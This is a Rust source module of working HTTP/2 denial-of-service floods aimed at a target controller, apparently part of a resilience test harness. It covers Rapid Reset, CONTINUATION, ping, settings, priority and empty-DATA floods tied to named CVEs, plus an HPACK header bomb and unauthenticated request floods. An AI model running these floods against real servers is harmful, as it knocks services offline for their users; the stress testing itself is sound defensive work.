//! Floods: frames and requests as fast as they can be sent.

use super::{
    row::StoppedBy,
    target::AttackedController,
    wire::{Reader, Writer, flag, flood, frame, header, kind, length, open, request},
};

/// The frames that go into one write.
const BATCH: usize = 64;

/// Sends one frame again and again.
async fn of_one(target: &AttackedController, count: usize, sent: Vec<u8>) -> anyhow::Result<StoppedBy> {
    let batch = sent.repeat(BATCH);
    flood(target, |number| (number * BATCH < count).then(|| (batch.clone(), BATCH))).await
}

/// Opens streams and cancels each at once (CVE-2023-44487).
pub(super) async fn rapid_reset(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    let path = format!("/v1/models/{}/status", target.hostile_model);
    let block = request("GET", &path, target, Some(&target.hostile.reveal()));
    let pair = |number: usize| {
        let stream = stream_id(number);
        let asked = frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &block);
        [asked, frame(kind::RST_STREAM, flag::NONE, stream, &8_u32.to_be_bytes())].concat()
    };
    flood(target, |number| (number < count).then(|| (pair(number), 2))).await
}

/// Sends headers that never end (CVE-2024-27316).
pub(super) async fn continuations(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    let block = request("GET", "/v1/models", target, None);
    let mut more = Vec::new();
    header(&mut more, "x-more", b"more");
    let first = frame(kind::HEADERS, flag::END_STREAM, 1, &block);
    let batch = frame(kind::CONTINUATION, flag::NONE, 1, &more).repeat(BATCH);
    flood(target, |number| match number {
        0 => Some((first.clone(), 1)),
        number => (number * BATCH < count).then(|| (batch.clone(), BATCH)),
    })
    .await
}

/// Sends empty settings, each of which the controller acknowledges (CVE-2019-9515).
pub(super) async fn settings(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    of_one(target, count, frame(kind::SETTINGS, flag::NONE, 0, &[])).await
}

/// Sends pings, each of which the controller answers (CVE-2019-9512).
pub(super) async fn pings(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    of_one(target, count, frame(kind::PING, flag::NONE, 0, &[7; 8])).await
}

/// Changes priorities again and again (CVE-2019-9513).
pub(super) async fn priorities(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    of_one(target, count, frame(kind::PRIORITY, flag::NONE, 1, &[0, 0, 0, 3, 9])).await
}

/// Widens the connection's window a byte at a time.
pub(super) async fn window_updates(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    of_one(target, count, frame(kind::WINDOW_UPDATE, flag::NONE, 0, &1_u32.to_be_bytes())).await
}

/// Sends frames of a kind that nobody knows, which HTTP/2 ignores.
pub(super) async fn unknown_frames(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    of_one(target, count, frame(kind::UNKNOWN, flag::NONE, 0, &[])).await
}

/// Sends a body of empty pieces (CVE-2019-9518).
pub(super) async fn empty_data(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    let path = format!("/v1/models/{}/commands", target.hostile_model);
    let block = request("POST", &path, target, Some(&target.hostile.reveal()));
    let first = frame(kind::HEADERS, flag::END_HEADERS, 1, &block);
    let batch = frame(kind::DATA, flag::NONE, 1, &[]).repeat(BATCH);
    flood(target, |number| match number {
        0 => Some((first.clone(), 1)),
        number => (number * BATCH < count).then(|| (batch.clone(), BATCH)),
    })
    .await
}

/// Names one long header again and again by its place in the compression's table, so that a few bytes become many.
pub(super) async fn header_bomb(target: &AttackedController, count: usize) -> anyhow::Result<StoppedBy> {
    const LONG: usize = 3_900;
    const TIMES: usize = 4_000;
    let mut block = request("GET", "/v1/models", target, Some(&target.hostile.reveal()));
    // A header that the peer keeps, as the first of its table.
    block.push(0x40);
    length(&mut block, "x".len());
    block.push(b'x');
    length(&mut block, LONG);
    block.extend([b'y'; LONG]);
    block.extend([0x80 | 62; TIMES]);
    let asked =
        |number: usize| frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream_id(number), &block);
    flood(target, |number| (number < count).then(|| (asked(number), 1))).await
}

/// Asks with more headers than the controller takes, and counts the answers.
pub(super) async fn long_headers(target: &AttackedController) -> anyhow::Result<StoppedBy> {
    const REQUESTS: usize = 16;
    let mut block = request("GET", "/v1/models", target, Some(&target.hostile.reveal()));
    for number in 0..4 {
        header(&mut block, &format!("x-{number}"), &[b'y'; 4_000]);
    }
    let sent = frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, 0, &block);
    refused(open(target, &[]).await?, &sent, REQUESTS).await
}

/// Asks without an identity.
pub(super) async fn strangers_requests(
    target: &AttackedController,
    count: usize,
) -> anyhow::Result<StoppedBy> {
    let block = request("GET", "/v1/models", target, None);
    let sent = frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, 0, &block);
    refused(open(target, &[]).await?, &sent, count).await
}

/// Sends a request again and again, each on its own stream and after the answer to the one before.
async fn refused(
    (mut writer, mut reader): (Writer, Reader),
    sent: &[u8],
    count: usize,
) -> anyhow::Result<StoppedBy> {
    let mut sent = sent.to_vec();
    for number in 0..count {
        if let Some(place) = sent.get_mut(5..9) {
            place.copy_from_slice(&stream_id(number).to_be_bytes());
        }
        let before = reader.seen.ended + resets(&reader);
        if writer.send(&sent, 1).await.is_err() {
            break;
        }
        while reader.seen.ended + resets(&reader) == before && reader.next().await {}
        if reader.seen.closed {
            break;
        }
    }
    let seen = reader.seen;
    Ok(match () {
        () if seen.closed => StoppedBy::ConnectionClosed { after: writer.frames, reason: seen.goaway },
        () if seen.contents > 0 => StoppedBy::Nobody(format!("{} answers were given", seen.contents)),
        () if seen.resets.is_empty() => StoppedBy::Refusals(seen.ended),
        () => StoppedBy::StreamsEnded { resets: seen.resets, refusals: seen.refusals },
    })
}

fn resets(reader: &Reader) -> usize {
    reader.seen.resets.values().sum()
}

/// Returns the id of a caller's stream.
fn stream_id(number: usize) -> u32 {
    u32::try_from(2 * number + 1).unwrap_or(u32::MAX)
}
